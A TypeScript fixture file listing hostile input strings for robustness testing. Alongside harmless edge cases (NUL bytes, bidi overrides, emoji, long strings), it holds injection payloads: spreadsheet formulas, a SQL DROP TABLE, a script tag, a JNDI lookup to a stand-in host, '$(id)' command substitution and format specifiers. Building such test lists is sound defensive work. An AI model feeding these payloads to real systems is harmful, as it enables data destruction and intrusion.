/** Texts that break careless programs: in terminals, databases, spreadsheets, pages and shells. */
export const HOSTILE_TEXTS: readonly string[] = [
  'NUL \u0000 inside',
  '\u202Eright-to-left override\u202C and \u05E9\u05DC\u05D5\u05DD',
  'emoji \u{1F469}\u200D\u{1F4BB}\u{1F512} and a flag \u{1F1E6}\u{1F1FA}',
  'A'.repeat(200_000),
  '=HYPERLINK("http://example.com","click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  `'; DROP TABLE vulnerabilities; --`,
  'double " and single \' and `back` quotes, a \\ backslash',
  'two\r\nlines, and a | pipe',
  '<script>alert(1)</script>',
  '\u001B[31mred\u001B[0m \u0007bell',
  '${jndi:ldap://example.com/a} $(id) %s %n',
  '',
];
